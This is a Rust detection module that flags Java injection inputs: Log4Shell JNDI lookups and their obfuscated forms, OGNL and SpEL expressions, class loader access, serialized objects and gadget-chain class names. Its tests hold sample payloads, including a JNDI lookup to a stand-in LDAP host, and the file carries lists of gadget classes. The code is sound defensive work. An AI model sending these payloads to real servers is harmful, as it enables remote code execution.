//! JNDI lookups (Log4Shell) with their nested-lookup obfuscation, and the other ways a Java
//! server is made to run code: deserialization, OGNL/SpEL expressions, class loader access.

/// Log4j lookups that evaluate to their argument or default, used to spell `jndi` unseen.
const SPELLING_LOOKUPS: &[&str] = &[
    "lower:", "upper:", "env:", "sys:", "date:", "main:", "ctx:", "map:", "sd:", "bundle:",
    "java:", "base64:",
];
const JAVA_CODE: &[(&str, &str)] = &[
    ("java.lang.runtime", "java.runtime_exec"),
    ("getruntime()", "java.runtime_exec"),
    ("java.lang.processbuilder", "java.runtime_exec"),
    ("processbuilder(", "java.runtime_exec"),
    ("class.module.classloader", "java.class_loader"),
    ("class.classloader", "java.class_loader"),
    ("#_memberaccess", "java.ognl"),
    ("@ognl.", "java.ognl"),
    ("xwork.methodaccessor", "java.ognl"),
    ("t(java.", "java.spel"),
    ("java.beans.xmldecoder", "java.deserialization"),
    ("aced0005", "java.deserialization"),
    ("javax.naming.initialcontext", "java.jndi"),
    ("javax.script.scriptenginemanager", "java.runtime_exec"),
    ("java.net.urlclassloader", "java.class_loader"),
];
const MAX_LOOKUP_ROUNDS: usize = 16;
/// Implicit objects of the Jakarta expression language: an expression naming one reads the
/// server's request, session or application state.
const EL_IMPLICIT_OBJECTS: &[&str] = &[
    "pagecontext",
    "applicationscope",
    "sessionscope",
    "requestscope",
    "initparam",
    "facescontext",
];
/// Packages whose classes a polymorphic deserializer (Jackson, Fastjson, XStream, XMLDecoder)
/// or an expression language can be steered to load: the JDK's own and those of the libraries
/// gadget chains are built from. A value that is nothing but such a class name names a type to
/// instantiate; applications take type names from the client only by mistake.
const GADGET_PACKAGES: &[&str] = &[
    "java",
    "javax",
    "jdk",
    "sun",
    "com.sun",
    "org.omg",
    "org.apache.commons",
    "org.apache.xalan",
    "org.apache.xbean",
    "org.apache.tomcat",
    "org.codehaus.groovy",
    "org.springframework",
    "org.hibernate",
    "com.opensymphony.xwork2",
    "com.mchange",
    "com.zaxxer.hikari",
    "ch.qos.logback",
    "org.h2",
    "org.jboss",
    "org.mozilla.javascript",
    "bsh",
    "ognl",
];
/// Classes whose only business in a request is a gadget chain: process creation, the
/// commons-collections functors that chain reflective calls, and the sinks the known chains
/// end in. Matched as whole identifiers anywhere in a value.
const GADGET_CLASSES: &[&str] = &[
    "processbuilder",
    "processimpl",
    "getruntime",
    "invokertransformer",
    "instantiatetransformer",
    "chainedtransformer",
    "constanttransformer",
    "clonetransformer",
    "instantiatefactory",
    "prototypeclonefactory",
    "prototypeserializationfactory",
    "forclosure",
    "whileclosure",
    "methodclosure",
    "templatesimpl",
    "jdbcrowsetimpl",
    "annotationinvocationhandler",
    "badattributevalueexpexception",
    "tiedmapentry",
    "objectinputstream",
    "scriptenginemanager",
    "urlclassloader",
    "xmldecoder",
];

pub fn check(value: &str) -> Option<&'static str> {
    if value.contains("${") {
        let resolved = resolve_lookups(value);
        if resolved.contains("${jndi:") {
            return Some("jndi.lookup");
        }
        if resolved != value && (resolved.contains("${") || value.contains("${${")) {
            return Some("jndi.obfuscated_lookup");
        }
    }
    if let Some((_, rule)) = JAVA_CODE.iter().find(|(needle, _)| value.contains(needle)) {
        return Some(rule);
    }
    if expression_language(value) {
        return Some("java.expression_language");
    }
    if serialized_in_base64(value) {
        return Some("java.deserialization");
    }
    if names_gadget_class(value) {
        return Some("java.gadget_class");
    }
    names_platform_class(value.trim()).then_some("java.class_name")
}

/// `${pageContext.request}`, `#{applicationScope}`: an expression reaching the server's state.
fn expression_language(value: &str) -> bool {
    ["${", "#{"].iter().any(|open| {
        value.match_indices(open).any(|(at, _)| {
            let inner = value[at + 2..].trim_start();
            EL_IMPLICIT_OBJECTS.iter().any(|object| {
                inner.starts_with(object)
                    && !inner[object.len()..]
                        .starts_with(|c: char| c.is_ascii_alphanumeric() || c == '_')
            })
        })
    })
}

/// The serialization stream magic `ac ed 00 05` in base64 (lower-cased), at whichever of the
/// three alignments it sits: the characters that depend only on the magic's own bits.
fn serialized_in_base64(value: &str) -> bool {
    value.contains("ro0ab")
        || value.contains("s7qaf")
        || value
            .match_indices("ztaa")
            .any(|(at, _)| matches!(value.as_bytes().get(at + 4), Some(b'u'..=b'x')))
}

fn names_gadget_class(value: &str) -> bool {
    value
        .split(|c: char| !(c.is_ascii_alphanumeric() || c == '_' || c == '$'))
        .any(|identifier| GADGET_CLASSES.contains(&identifier))
}

/// `java.lang.ProcessBuilder`, `com.sun.org.apache.xalan`: a dotted Java name (the value is
/// lower-cased) in a gadget package. Exception and error names are left alone: clients report
/// those.
fn names_platform_class(value: &str) -> bool {
    let segments_are_identifiers = value.split('.').all(|segment| {
        segment
            .bytes()
            .next()
            .is_some_and(|b| b.is_ascii_alphabetic() || b == b'_' || b == b'$')
            && segment
                .bytes()
                .all(|b| b.is_ascii_alphanumeric() || b == b'_' || b == b'$')
    });
    if !value.contains('.') || !segments_are_identifiers {
        return false;
    }
    let last = value.rsplit('.').next().unwrap_or_default();
    if last.ends_with("exception") || last.ends_with("error") {
        return false;
    }
    GADGET_PACKAGES.iter().any(|package| {
        value
            .strip_prefix(package)
            .is_some_and(|rest| rest.is_empty() || rest.starts_with('.'))
    })
}

/// Replaces innermost lookups other than `jndi:` by what Log4j would make of them: the
/// default after `:-`, or the argument of a case lookup.
fn resolve_lookups(value: &str) -> String {
    let mut text = value.to_owned();
    for _ in 0..MAX_LOOKUP_ROUNDS {
        let Some(replaced) = resolve_one(&text) else {
            break;
        };
        text = replaced;
    }
    text
}

fn resolve_one(text: &str) -> Option<String> {
    let mut search = 0;
    while let Some(found) = text[search..].find("${") {
        let open = search + found;
        let inner_start = open + 2;
        let close = inner_start + text[inner_start..].find('}')?;
        let inner = &text[inner_start..close];
        if inner.contains("${") {
            search = inner_start;
            continue;
        }
        if inner.starts_with("jndi:") {
            search = close;
            continue;
        }
        let value = if let Some((_, default)) = inner.split_once(":-") {
            default
        } else if let Some(lookup) = SPELLING_LOOKUPS.iter().find(|l| inner.starts_with(*l)) {
            &inner[lookup.len()..]
        } else {
            search = close;
            continue;
        };
        return Some(format!("{}{}{}", &text[..open], value, &text[close + 1..]));
    }
    None
}

#[cfg(test)]
mod tests {
    use super::check;

    #[test]
    fn lookups_and_java_code_are_found() {
        for value in [
            "${jndi:ldap://evil.example/a}",
            "${${lower:j}ndi:rmi://x/y}",
            "${${::-j}${::-n}${::-d}${::-i}:dns://x}",
            "${${env:nothing:-j}ndi:ldap://x}",
            "class.module.classloader.resources.context.parent.pipeline.first.pattern=x",
            "ro0abxnyabfqyxzhlnv0awwuagfzaehhc2hnyxa",
            "%{(#_memberaccess['allowstaticmethodaccess']=true)}",
            "java.lang.processbuilder",
            "java.io.fileoutputstream",
            "org.apache.commons.collections.functors.invokertransformer",
            "com.sun.org.apache.xalan.internal.xsltc.trax.templatesimpl",
            "java.runtime",
            "aacs7qafc3i",
            "${pagecontext.request.getsession()}",
            "#{applicationscope}",
            "ch.qos.logback.core.db.drivermanagerconnectionsource",
            "runtime.chainedtransformer",
            "x=processbuilder.start",
            "akztaavzcga",
        ] {
            assert!(check(value).is_some(), "missed {value:?}");
        }
        for value in [
            "price is ${amount} today",
            "use java.lang.string for names",
            "template ${name} in docs",
            "java.io.ioexception",
            "javascript.info",
            "java.lang.string is immutable",
            "com.example.orders",
            "the process builder is done",
            "${pagecontextual} and #{sessions}",
        ] {
            assert_eq!(check(value), None, "flagged {value:?}");
        }
    }
}
